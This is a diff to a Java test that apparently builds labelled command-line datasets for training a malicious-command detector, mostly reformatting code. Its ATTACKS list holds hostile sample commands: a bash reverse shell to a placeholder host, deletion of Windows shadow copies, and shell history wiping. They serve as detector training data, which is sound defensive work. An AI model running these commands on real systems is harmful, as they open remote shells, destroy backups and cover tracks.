@@ -20,8 +20,7 @@ class DatasetCommandTest {
   private static final List<String> ATTACKS =
       List.of(
           "vssadmin delete shadows /for=%d: /quiet",
-          "bash -i >& /dev/tcp/h%d.example/443 0>&1",
-          "history -c && exit %d");
+          "bash -i >& /dev/tcp/h%d.example/443 0>&1", "history -c && exit %d");
   private static final List<String> HARMLESS =
       List.of("git log -n %d", "tail -n %d app.log", "acmectl get item-%d", "ping -c %d db");
 
@@ -44,8 +43,7 @@ class DatasetCommandTest {
     for (int i = 1; i <= 60; i++) {
       own.append(
           "{\"ts\":%d,\"host\":\"h%d\",\"os\":\"linux\",\"command_line\":\"%s\"}%n"
-              .formatted(
-                  1736035200000L + i, i % 20, ATTACKS.get(i % ATTACKS.size()).formatted(i)));
+              .formatted(1736035200000L + i, i % 20, ATTACKS.get(i % ATTACKS.size()).formatted(i)));
       ecs.append(
           "{\"@timestamp\":\"2025-01-06T10:00:00Z\",\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},\"host\":{\"name\":\"h%d\",\"os\":{\"type\":\"linux\"}},\"process\":{\"command_line\":\"%s\"}}%n"
               .formatted(i % 20, HARMLESS.get(i % HARMLESS.size()).formatted(i)));
@@ -75,7 +73,8 @@ class DatasetCommandTest {
     assertThat(outcome.status()).as(outcome.err()).isZero();
     assertThat(outcome.out()).contains("rb ", "ab ");
     assertThat(outcome.err())
-        .contains("warning: 1 record of the telemetry cannot be used, first", "2025-01-05.jsonl:61");
+        .contains(
+            "warning: 1 record of the telemetry cannot be used, first", "2025-01-05.jsonl:61");
     LabelledSet ab = LabelledSet.read("ab", folder.resolve("out/ab.jsonl.gz"));
     assertThat(ab.commands()).contains("acmectl dump --all", "acmectl sync", "git log -n 4");
     assertThat(LabelledSet.read("ab", folder.resolve("out/ab.parquet"))).isEqualTo(ab);
@@ -106,8 +105,7 @@ class DatasetCommandTest {
     assertThat(trained.status()).as(trained.err()).isZero();
     JsonNode manifest =
         Json.MAPPER.readTree(folder.resolve("trained/models/ab/data.json").toFile());
-    assertThat(manifest.get("base_sha256"))
-        .isEqualTo(card.at("/sets/ab/files/ab.jsonl.gz/sha256"));
+    assertThat(manifest.get("base_sha256")).isEqualTo(card.at("/sets/ab/files/ab.jsonl.gz/sha256"));
   }
 
   /** A folder of a review: its sample, and what its page exported. */
@@ -130,13 +128,11 @@ class DatasetCommandTest {
       JsonNode item = Json.MAPPER.readTree(items.get(i));
       export.append(
           "{\"sample\":\"%s\",\"item\":\"%s\",\"decision\":\"%s\",\"reviewer\":\"ann\",\"at\":\"2026-01-05T12:00:00Z\"}%n"
-              .formatted(
-                  item.get("sample").asText(), item.get("item").asText(), decisions.get(i)));
+              .formatted(item.get("sample").asText(), item.get("item").asText(), decisions.get(i)));
     }
     write("review/review-ann.jsonl", export.toString());
     Console.Outcome outcome =
-        Console.run(
-            "dataset", "--source", "review=" + path("review"), "--out", path("out"));
+        Console.run("dataset", "--source", "review=" + path("review"), "--out", path("out"));
     assertThat(outcome.status()).as(outcome.err()).isZero();
     assertThat(outcome.err()).contains("review: 2 labelled records (1 malicious), 1 undecided");
     LabelledSet ab = LabelledSet.read("ab", folder.resolve("out/ab.jsonl.gz"));
